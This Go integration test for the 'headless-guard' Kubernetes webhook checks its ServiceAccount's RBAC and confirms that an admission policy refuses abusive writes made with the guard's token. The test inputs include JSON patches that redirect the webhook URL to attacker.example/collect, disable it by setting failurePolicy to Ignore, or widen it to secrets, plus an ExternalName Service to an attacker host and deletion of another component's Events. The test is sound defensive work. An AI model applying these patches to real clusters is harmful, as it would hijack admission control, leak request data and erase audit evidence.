package deploy

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/headless-guard/headless-guard/test/cluster"
	"github.com/headless-guard/headless-guard/test/framework"
)

// TestGuardPrivileges: what whoever takes the guard's pod can do with its
// token. The rows of `kubectl auth can-i` for the chart's ServiceAccount
// with the chart's default values (inject off, audit and Reports on,
// self-managed certificates), then the writes RBAC cannot forbid, made
// with the guard's own token and refused by the API server's admission
// policy headless-guard-self. Before issue 22 the ServiceAccount could
// create any Service in any namespace (a LoadBalancer with externalIPs in
// kube-system), delete any Event, delete or rewrite any Report, and point
// its webhook configurations anywhere.
func TestGuardPrivileges(t *testing.T) {
	c := framework.OwnClusterWith(t, cluster.Options{})
	framework.MustKubectl(t, c, nil, "apply", "--server-side", "-f", framework.ReportCRD(t, c))
	framework.WaitEstablished(t, c, "crd/reports.openreports.io")
	docs := framework.Render(t, c, "self-signed")
	framework.MustKubectl(t, c, framework.Join(docs, func(d framework.ManifestDoc) bool { return !framework.IsWebhookConfiguration(d) }), "apply", "-f", "-")
	kubeconfig, sa, _ := framework.SaKubeconfig(t, c, framework.GuardNamespace, "headless-guard")
	// The Service writes below go through the webhook, which fails closed.
	if _, err := c.StartGuard(t.Context(), "--kubeconfig", kubeconfig); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if t.Failed() {
			c.DumpLogs(t)
		}
	})
	// The API server's policy engine reads new policies within a second or so.
	framework.Eventually(t, 10*time.Second, "the policy headless-guard-self in force", func() (bool, string) {
		err := sa.Create(t.Context(), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: framework.GuardNamespace, Name: "probe"}})
		return err != nil && strings.Contains(err.Error(), "headless-guard-self"), fmt.Sprint(err)
	})
	as := "--as=system:serviceaccount:" + framework.GuardNamespace + ":headless-guard"

	rows := []struct {
		verb, resource, ns string
		want               string
	}{
		{"create", "services", "default", "no"},
		{"create", "services", "kube-system", "no"},
		{"update", "services", "default", "no"},
		{"delete", "services", "default", "no"},
		{"get", "pods", "default", "yes"},
		{"get", "secrets", "default", "no"},
		// Evidence of use reads the ConfigMaps a pod template references.
		{"get", "configmaps", "default", "yes"},
		{"list", "configmaps", "default", "no"},
		{"watch", "configmaps", "default", "no"},
		{"create", "secrets", "kube-system", "no"},
		{"get", "secrets/headless-guard-webhook-cert", framework.GuardNamespace, "yes"},
		{"create", "events", "kube-system", "yes"},
		// RBAC cannot name generated Events: the policy limits it to its own.
		{"delete", "events", "kube-system", "yes"},
		{"delete", "reports.openreports.io/headless-guard", "default", "yes"},
		{"delete", "reports.openreports.io/someone-elses", "default", "no"},
		{"update", "reports.openreports.io/someone-elses", "default", "no"},
		{"patch", "reports.openreports.io/headless-guard", "default", "no"},
		{"patch", "validatingwebhookconfigurations/headless-guard", "", "yes"},
		{"patch", "validatingwebhookconfigurations/another", "", "no"},
		{"delete", "validatingwebhookconfigurations/headless-guard", "", "no"},
		{"update", "statefulsets/finalizers", "default", "no"},
	}
	var table strings.Builder
	for _, r := range rows {
		args := []string{"auth", "can-i", r.verb, r.resource, as}
		if r.ns != "" {
			args = append(args, "-n", r.ns)
		}
		out, _, _ := framework.Kubectl(t, c, nil, args...)
		got := strings.TrimSpace(out)
		fmt.Fprintf(&table, "  %-7s %-50s %-22s %s\n", r.verb, r.resource, r.ns, got)
		if got != r.want {
			t.Errorf("can-i %s %s -n %q: %q, want %q", r.verb, r.resource, r.ns, got, r.want)
		}
	}
	t.Logf("kubectl auth can-i as the guard's ServiceAccount:\n%s", table.String())

	// The writes RBAC allows but the policy refuses. Services: RBAC as
	// injectNamespaces grants it in one namespace.
	ns := framework.Namespace(t, c, "inject-here", nil)
	rbac := mustHelm(t, "", "template", releaseName, chartDir, "--namespace", framework.GuardNamespace, "--show-only", "templates/rbac.yaml", "--set", "injectNamespaces={"+ns+"}")
	framework.MustKubectl(t, c, framework.Join(parseDocs(t, rbac), func(d framework.ManifestDoc) bool { return d.Name == "headless-guard-inject" }), "apply", "-f", "-")
	ctx := t.Context()
	owner := metav1.OwnerReference{APIVersion: "apps/v1", Kind: "StatefulSet", Name: "web", UID: types.UID("0b5e4d7c-0000-4000-8000-000000000001"), Controller: boolPtr(true)}
	managed := map[string]string{"app.kubernetes.io/managed-by": "headless-guard"}
	svc := func(name string, tweak func(*corev1.Service)) *corev1.Service {
		s := &corev1.Service{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: managed, OwnerReferences: []metav1.OwnerReference{owner}},
			Spec: corev1.ServiceSpec{ClusterIP: "None", Selector: map[string]string{"app": "web"},
				Ports: []corev1.ServicePort{{Name: "web", Port: 80}}},
		}
		tweak(s)
		return s
	}
	refused := func(what string, err error) {
		t.Helper()
		if err == nil || !strings.Contains(err.Error(), "headless-guard-self") {
			t.Errorf("%s with the guard's token: %v, want refused by the policy headless-guard-self", what, err)
		} else {
			t.Logf("%s: refused: %v", what, err)
		}
	}
	refused("a LoadBalancer Service with externalIPs selecting kube-dns", sa.Create(ctx, svc("lb", func(s *corev1.Service) {
		s.Spec.ClusterIP, s.Spec.Type, s.Spec.ExternalIPs, s.Spec.Selector = "", corev1.ServiceTypeLoadBalancer, []string{"203.0.113.7"}, map[string]string{"k8s-app": "kube-dns"}
	})))
	refused("an ExternalName Service", sa.Create(ctx, svc("ext", func(s *corev1.Service) {
		s.Spec.ClusterIP, s.Spec.Type, s.Spec.ExternalName, s.Spec.Selector = "", corev1.ServiceTypeExternalName, "attacker.example", nil
	})))
	refused("a headless Service owned by nothing", sa.Create(ctx, svc("orphan", func(s *corev1.Service) { s.OwnerReferences = nil })))
	refused("a headless Service without the managed-by label", sa.Create(ctx, svc("unlabelled", func(s *corev1.Service) { s.Labels = nil })))
	if err := sa.Create(ctx, svc("web", func(*corev1.Service) {})); err != nil {
		t.Errorf("the Service inject-service makes, with the guard's token: %v", err)
	}

	// Its webhook configurations: only the caBundle.
	for _, patch := range []string{
		`[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]`,
		`[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://attacker.example/collect"}]`,
		`[{"op":"add","path":"/webhooks/0/rules/0/resources/-","value":"secrets"}]`,
	} {
		refused("patching ValidatingWebhookConfiguration headless-guard "+patch, sa.Patch(ctx, webhookConfig(t, c), client.RawPatch(types.JSONPatchType, []byte(patch))))
	}
	current := webhookConfig(t, c)
	caPatch := fmt.Sprintf(`[{"op":"replace","path":"/webhooks/0/clientConfig/caBundle","value":%q}]`, base64.StdEncoding.EncodeToString(current.Webhooks[0].ClientConfig.CABundle))
	if err := sa.Patch(ctx, current, client.RawPatch(types.JSONPatchType, []byte(caPatch))); err != nil {
		t.Errorf("patching only the caBundle with the guard's token: %v", err)
	}

	// Events: only those it reported.
	event := func(name, component string) *corev1.Event {
		e := &corev1.Event{
			ObjectMeta:     metav1.ObjectMeta{Namespace: "kube-system", Name: name},
			InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: "kube-system", Name: "kube-dns"},
			Reason:         "Evidence", Message: "kept", Type: corev1.EventTypeWarning,
			Source: corev1.EventSource{Component: component}, ReportingController: component,
		}
		if err := c.Client().Create(ctx, e); err != nil {
			t.Fatal(err)
		}
		return e
	}
	refused("deleting another component's Event in kube-system", sa.Delete(ctx, event("evidence", "kubelet")))
	if err := sa.Delete(ctx, event("own", "headless-guard")); err != nil {
		t.Errorf("deleting an Event headless-guard reported, with its token: %v", err)
	}

	// Secrets: only its certificate's.
	refused("creating another Secret in its namespace", sa.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: framework.GuardNamespace, Name: "loot"}}))
}

func webhookConfig(t *testing.T, c *cluster.Cluster) *admissionregistrationv1.ValidatingWebhookConfiguration {
	t.Helper()
	v := &admissionregistrationv1.ValidatingWebhookConfiguration{}
	if err := c.Client().Get(context.Background(), client.ObjectKey{Name: "headless-guard"}, v); err != nil {
		t.Fatal(err)
	}
	return v
}

func boolPtr(v bool) *bool { return &v }
